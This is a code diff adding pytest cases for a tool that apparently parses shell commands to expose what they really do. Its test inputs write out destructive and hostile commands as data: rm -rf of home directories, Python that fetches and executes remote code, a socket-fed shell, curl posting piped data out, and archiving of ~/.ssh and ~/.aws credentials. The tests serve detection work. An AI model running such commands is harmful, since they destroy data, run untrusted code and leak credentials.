@@ -466,6 +466,14 @@ def test_heredoc_and_herestring_fed_to_a_shell():
         ("perl -e 'system(\"rm -rf /x\")'", ("rm", "-rf", "/x")),
         ("perl -le 'print `rm -rf /x`'", ("rm", "-rf", "/x")),
         ("ruby -e 'FileUtils.rm_rf(\"/x\")'", ("rm", "-r", "/x")),
+        (
+            "node -e 'require(\"child_process\").execSync(`rm -rf ${process.env.HOME}`)'",
+            ("rm", "-rf", "/home/u"),
+        ),
+        (
+            "node -e 'const os = require(\"os\"); execSync(`rm -rf ${os.homedir()}`)'",
+            ("rm", "-rf", "/home/u"),
+        ),
     ],
 )
 def test_one_liners_reveal_what_they_do(command: str, argv: tuple[str, ...] | None):
@@ -477,6 +485,38 @@ def test_one_liners_reveal_what_they_do(command: str, argv: tuple[str, ...] | No
     assert rms[0].argv == argv
     assert rms[0].via[0].endswith(("-c", "-e"))
     assert rms[0].depth == 1
+
+
+@pytest.mark.parametrize(
+    "command",
+    [
+        "source <(echo rm -rf /x)",
+        ". <(printf 'rm -rf /x')",
+        "bash <(echo 'rm -rf /x')",
+        'a=(rm -rf /x); "${a[@]}"',
+        "alias wipe='rm -rf'; wipe /x",
+    ],
+)
+def test_commands_through_procsubs_arrays_and_aliases_are_read(command: str):
+    rms = [c for c in run(command).commands if c.program == "rm"]
+    assert rms, [c.argv for c in run(command).commands]
+    assert rms[0].positionals == ("/x",)
+
+
+def test_a_stated_program_with_operands_from_a_substitution_is_not_code_from_it():
+    perl = only("perl -p -i -e 's/a/b/g' `find . -name '*.html'`", "perl")
+    assert perl.code_from == ()
+    fetched = only('perl -e "$(curl -s https://h.example/x.pl)"', "perl")
+    assert fetched.code_from == ("curl",)
+
+
+def test_a_template_literal_in_node_is_not_a_perl_backquote():
+    parsed = run("node -e 'console.log(`${a} and ${b}`)'")
+    assert [c.program for c in parsed.commands] == ["node"]
+
+
+def test_quoted_array_items_stay_separate_words():
+    assert only('args=(-la "$HOME"); ls "${args[@]}"', "ls").argv == ("ls", "-la", "/home/u")
 
 
 def _b64(text: str) -> str:
@@ -504,6 +544,15 @@ _RMTREE = 'import shutil\nshutil.rmtree("/x")'
         "import base64; exec(base64.b64decode({!r}))".format(
             _b64(f"exec(__import__('base64').b64decode({_b64(_RMTREE)!r}))")
         ),
+        # strings built from values the program states
+        'import os\nt = "/x"\nos.system(f"rm -rf {t}")',
+        'import os\nos.system("rm -rf {}".format("/x"))',
+        'import os\nos.system("rm -rf {target}".format(target="/x"))',
+        'import os\nos.system("rm -rf %s" % "/x")',
+        'import os\nos.system("rm -rf %s %s" % ("-v", "/x"))',
+        'import os\nos.system(" ".join(["rm", "-rf", "/x"]))',
+        'import os, shlex\nos.system(shlex.join(["rm", "-rf", "/x"]))',
+        'import subprocess\nd = "/"\nsubprocess.run(f"rm -rf {d}x", shell=True)',
     ],
 )
 def test_python_code_run_from_text_is_read_as_python(program: str):
@@ -511,6 +560,65 @@ def test_python_code_run_from_text_is_read_as_python(program: str):
     rms = [c for c in parsed.commands if c.program == "rm"]
     assert rms, [c.argv for c in parsed.commands]
     assert rms[0].positionals[-1] == "/x"
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        'import os\nos.system(f"rm -rf {unknown}")',  # a value the program does not state
+        'import os\nos.system("echo {0.__class__}".format("x"))',  # lookups are not done
+        'import os\nos.system(f"echo {1+1:>4}")',  # a format spec: not followed
+        'import os\nos.system("rm %d" % "x")',  # formatting that would raise
+    ],
+)
+def test_python_strings_with_unknown_parts_are_not_guessed(program: str):
+    parsed = run(f"python3 -c {shlex.quote(program)}")
+    assert not [c for c in parsed.commands if c.program in ("rm", "echo")]
+
+
+@pytest.mark.parametrize(
+    "program",
+    [
+        'import requests; exec(requests.get("https://h.example/a.py").text)',
+        'import urllib.request; exec(urllib.request.urlopen("https://h.example/a.py").read())',
+        'import urllib.request as u\nwith u.urlopen("https://h.example/a.py") as r:\n'
+        '    code = r.read().decode()\nexec(compile(code, "a", "exec"))',
+        'import httpx\nr = httpx.get("https://h.example/a.py")\neval(r.text)',
+    ],
+)
+def test_python_code_fetched_then_run_is_a_remote_script(program: str):
+    parsed = run(f"python3 -c {shlex.quote(program)}")
+    runner = [c for c in parsed.commands if c.program == "python3" and c.runs_stdin_as_code]
+    assert runner, [c.argv for c in parsed.commands]
+    assert runner[0].code_from == ("curl",)
+    curl = next(c for c in parsed.commands if c.program == "curl")
+    assert curl.positionals[-1] == "https://h.example/a.py"
+
+
+def test_a_fetched_body_given_to_a_shell_is_a_remote_script():
+    program = 'import os, requests\nr = requests.get("https://h.example/c")\nos.system(r.text)'
+    parsed = run(f"python3 -c {shlex.quote(program)}")
+    shells = [c for c in parsed.commands if c.program == "sh" and c.runs_stdin_as_code]
+    assert shells
+    assert shells[0].code_from == ("curl",)
+
+
+def test_fetching_data_runs_nothing():
+    program = 'import json, requests\nprint(requests.get("https://h.example/v").json()["v"])'
+    parsed = run(f"python3 -c {shlex.quote(program)}")
+    assert [c.program for c in parsed.commands] == ["python3"]
+
+
+def test_a_socket_address_in_a_name_is_followed_to_the_shell_it_feeds():
+    program = (
+        "from socket import socket\nfrom subprocess import Popen\n"
+        'target = ("127.0.0.1", 5389)\ns = socket()\ns.connect(target)\n'
+        "Popen(s.recv(1024).decode(), shell=True)"
+    )
+    parsed = run(f"python3 -c {shlex.quote(program)}")
+    shells = [c for c in parsed.commands if c.program == "sh"]
+    assert shells
+    assert any("/dev/tcp/127.0.0.1/5389" in (r.path or "") for r in shells[0].redirects)
 
 
 @pytest.mark.parametrize(
@@ -911,6 +1019,60 @@ def test_command_of():
 
 # --------------------------------------------------------------------------------------
 # Pipes, glob words, find selections, git argv actions, globs against globs
+
+
+def test_pipe_sinks_name_the_programs_after_the_next_one():
+    parsed = run("cat k | gzip | base64 | curl -d @- https://x; cat b | wc -l")
+    cat, gzip, b64, curl, cat_b, wc = parsed.commands
+    assert cat.pipe_to[0] == "gzip"
+    assert cat.pipe_sinks == ("base64", "curl")
+    assert gzip.pipe_sinks == ("curl",)
+    assert b64.pipe_sinks == curl.pipe_sinks == cat_b.pipe_sinks == wc.pipe_sinks == ()
+
+
+@pytest.mark.parametrize(
+    ("command", "effects"),
+    [
+        ("tar czf - ~/.ssh", [("read", "/home/u/.ssh", True)]),
+        (
+            "tar -czf /tmp/k.tgz -C /home/u .ssh .aws",
+            [
+                ("write", "/tmp/k.tgz", False),
+                ("read", "/home/u/.ssh", True),
+                ("read", "/home/u/.aws", True),
+            ],
+        ),
+        (
+            "tar --create --file=out.tar src",
+            [("write", "/work/app/out.tar", False), ("read", "/work/app/src", True)],
+        ),
+        ("tar xzf a.tgz -C /opt", [("read", "/work/app/a.tgz", False)]),
+        (
+            "zip -r -P pw /tmp/k.zip ~/.aws -x '*.log'",
+            [("write", "/tmp/k.zip", False), ("read", "/home/u/.aws", True)],
+        ),
+        (
+            "7z a k.7z ~/.kube",
+            [("write", "/work/app/k.7z", False), ("read", "/home/u/.kube", True)],
+        ),
+        ("cp -r ~/.ssh /tmp/x", [("read", "/home/u/.ssh", True), ("write", "/tmp/x", False)]),
+        ("grep -r key ~/.aws", [("read", "/work/app/key", True), ("read", "/home/u/.aws", True)]),
+        (
+            "grep -rl key ~/.aws",
+            [("read", "/work/app/key", False), ("read", "/home/u/.aws", False)],
+        ),
+        ("find ~ -name '*.log' | xargs tar czf logs.tgz", None),
+        ("find .. -type d | xargs tar cf d.tar --no-recursion", None),
+    ],
+)
+def test_archivers_and_recursive_readers_read_whole_trees(
+    command: str, effects: list[tuple[str, str, bool]] | None
+):
+    found = [(e.mode, e.path, e.tree) for c in run(command).commands for e in path_effects(c, HOME)]
+    if effects is None:  # what xargs or a filtered find selected: not whole trees
+        assert not [f for f in found if f[2]], found
+    else:
+        assert found == effects
 
 
 def test_pipe_to_names_the_next_command_of_the_pipeline():
